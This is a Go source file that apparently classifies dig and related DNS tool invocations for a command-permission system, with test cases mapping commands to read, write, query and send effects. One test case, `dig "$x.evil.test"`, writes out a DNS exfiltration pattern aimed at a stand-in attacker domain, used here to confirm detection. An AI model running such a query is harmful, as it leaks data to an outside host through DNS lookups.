package commands

import (
	"strings"

	"automode"
)

var dig = Program{
	Name: "dig", Rare: true, Kin: "delv kdig drill", Summary: "asks name servers", Manual: "dig(1), BIND 9.20",
	Row: Row{
		Help: "-h",
		Args: anyData,
		Flags: []Flag{
			{Names: "-4 -6 -m -r -u -v -i"},
			{Names: "-b= -t= -x=", Value: Data}, {Names: "-q=", Value: Data, Of: "dig delv kdig"}, {Names: "-q= -w=", Value: Writes, Of: "drill", Why: "writes a packet there"}, {Names: "-c= -p=", Value: Data, Of: "dig delv kdig"},
			{Names: "-y=", Value: Data},
			{Names: "-k=", Value: Reads},
			{Names: "-f=", Value: Reads, Does: []Do{{Kind: automode.Send, Target: "name servers"}}, Why: "asks name servers for what a file holds"},
		},
		Refine: digNames,
	},
}

var digCases = []Case{
	{`dig -c 1 +short h.test mx`, `Query h.test; Query mx`},
	{`drill -q f h.test`, `Write f; Query h.test`}, {`dig -q h.test`, `Query h.test`}, {`dig -x $x`, `Unknown an unknown word may be an option; Send …; Send …`},
	{`dig +short h.test mx`, `Query h.test; Query mx`},
	{`dig @ns.test -t a -x 10.0.0.1 h.test`, `Query 10.0.0.1; Query ns.test; Query h.test`},
	{`dig -f l`, `Send name servers; Read l`}, {`dig -k l h.test`, `Read l; Query h.test`},
	{`dig -u -y k:s h.test`, `Query h.test`},
	{`dig "$x.evil.test"`, `Unknown an unknown word may be an option; Send ….evil.test`},
}

// digNames: a name that is made of what is not known carries it to whoever
// answers for the name.
func digNames(m *Match) {
	for _, h := range m.hits {
		if h.Has && (h.Name == "-x" || h.Name == "-q" && m.name() != "drill") {
			askName(m, h.Value)
		}
	}
	for _, w := range m.Args {
		if strings.HasPrefix(w.Text, "+") {
			continue
		}
		w.Text = strings.TrimPrefix(w.Text, "@")
		askName(m, w)
	}
}

// askName adds that a host or its name server is asked.
func askName(m *Match, w Word) {
	if w.Known == automode.Guess || w.Data != 0 {
		m.Add(roleFact(Sends, w, "the name is made of what is not known here"))
		return
	}
	m.Add(roleFact(Asks, w, ""))
}
